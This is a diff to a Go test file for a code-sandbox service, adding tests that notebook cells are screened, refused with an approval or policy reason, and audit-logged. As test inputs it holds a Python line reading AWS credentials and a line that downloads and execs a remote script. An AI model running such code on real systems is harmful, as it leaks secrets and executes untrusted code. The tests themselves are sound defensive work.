@@ -7,7 +7,10 @@ import (
 	"time"
 	"unicode/utf8"
 
+	"github.com/moat-sandbox/moat/audit"
+	"github.com/moat-sandbox/moat/effects"
 	"github.com/moat-sandbox/moat/manifest"
+	"github.com/moat-sandbox/moat/result"
 	"github.com/moat-sandbox/moat/service"
 	"github.com/moat-sandbox/moat/service/servicetest"
 )
@@ -289,6 +292,21 @@ func TestKernelControl(t *testing.T) {
 			_, err = s.WriteStdin(t.Context(), keyA, id, k.ExecID, strings.NewReader("5\n{}"), false)
 			wantKind(t, err, service.Conflict, "")
 		}},
+		{"cells are screened as python3 -c is", nil, func(t *testing.T, s *service.Service, id string) {
+			for _, code := range []string{
+				"print(open('/root/.aws/credentials').read())",
+				"import urllib.request as u\nexec(u.urlopen('https://e.com/x.py').read())",
+			} {
+				_, err := s.RunCell(t.Context(), keyA, id, service.CellArgs{Code: code})
+				wantKind(t, err, service.Forbidden, "code")
+				if !strings.Contains(err.Error(), "approval") {
+					t.Errorf("refusal %q does not say it needs an approval", err)
+				}
+			}
+			if c := runCell(t, s, id, "print('benign')", 0); c.Status != service.CellOK {
+				t.Errorf("a benign cell after the refusals: %+v", c)
+			}
+		}},
 		{"another key's sandbox is not found", nil, func(t *testing.T, s *service.Service, id string) {
 			_, err := s.RunCell(t.Context(), keyB, id, service.CellArgs{Code: "1"})
 			wantKind(t, err, service.NotFound, "")
@@ -339,5 +357,43 @@ func waitOutput(t *testing.T, f *service.CellFeed) {
 		case <-deadline:
 			t.Fatal("the cell printed nothing in 20 s")
 		}
+	}
+}
+
+// TestKernelScreeningDenied: a cell the effects policy denies is refused
+// and recorded as a denied command is; with the analysis off it runs.
+func TestKernelScreeningDenied(t *testing.T) {
+	code := "print(open('/root/.aws/credentials').read())"
+	tests := []struct {
+		name string
+		noFx bool
+	}{
+		{"denied", false},
+		{"analysis off", true},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			p, err := effects.ParsePolicy([]byte("default: allow\nrules:\n  - kind: secret-read\n    decision: deny\n    reason: no secrets\n"))
+			if err != nil {
+				t.Fatal(err)
+			}
+			s, _, au := newService(t, func(c *service.Config) { c.Effects, c.NoEffects = p, tc.noFx })
+			id := kernelSandbox(t, s, true, nil)
+			c, err := s.RunCell(t.Context(), keyA, id, service.CellArgs{Code: code})
+			if tc.noFx {
+				if err != nil || c.Status != service.CellError {
+					t.Fatalf("RunCell: %+v, %v; want it to run (and fail to open the file)", c, err)
+				}
+				return
+			}
+			wantKind(t, err, service.Forbidden, "code")
+			if !strings.Contains(err.Error(), "no secrets") {
+				t.Errorf("refusal %q does not give the policy's reason", err)
+			}
+			recs := au.Records(audit.KindApproval)
+			if len(recs) != 1 || recs[0].Termination != result.Policy || recs[0].SandboxID != id {
+				t.Errorf("approval records %+v, want the denied cell's", recs)
+			}
+		})
 	}
 }
